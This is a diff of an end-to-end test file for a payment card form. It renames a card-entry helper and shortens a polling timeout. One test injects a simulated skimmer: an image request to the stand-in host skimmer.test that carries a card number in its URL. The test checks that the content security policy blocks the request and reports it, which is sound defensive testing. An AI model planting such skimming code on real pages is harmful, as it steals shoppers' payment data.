@@ -1,7 +1,7 @@
 import { randomUUID } from 'node:crypto';
 
 import { startApp } from '../support/process/app.ts';
-import { CARDS, expect, payButton, test, typeCard } from './fixtures.ts';
+import { CARDS, expect, fillCard, payButton, test } from './fixtures.ts';
 
 const CARD_FORM = {
   card_number: '4111 1111 1111 1112',
@@ -104,7 +104,7 @@ test('a script that is slipped into the page does not run, and is reported', asy
     image.src = 'http://skimmer.test/?card=4242424242424242';
     document.body.append(image);
   });
-  await expect.poll(() => app.logs(), { timeout: 20_000 }).toContain('content security policy');
+  await expect.poll(() => app.logs()).toContain('content security policy');
   expect(app.logs()).not.toMatch(/skimmer\.test\/\?card|4242424242424242/);
   complaints.length = 0;
 });
@@ -160,7 +160,7 @@ test('payment pages of another origin’s frame are not shown', async ({
 
 test('the card form still works while its policy is enforced', async ({ page, shop, openForm }) => {
   await openForm();
-  await typeCard(page, { number: CARDS.approved });
+  await fillCard(page, { number: CARDS.approved });
   await payButton(page).click();
   await page.waitForURL(shop.returnUrls.success);
 });
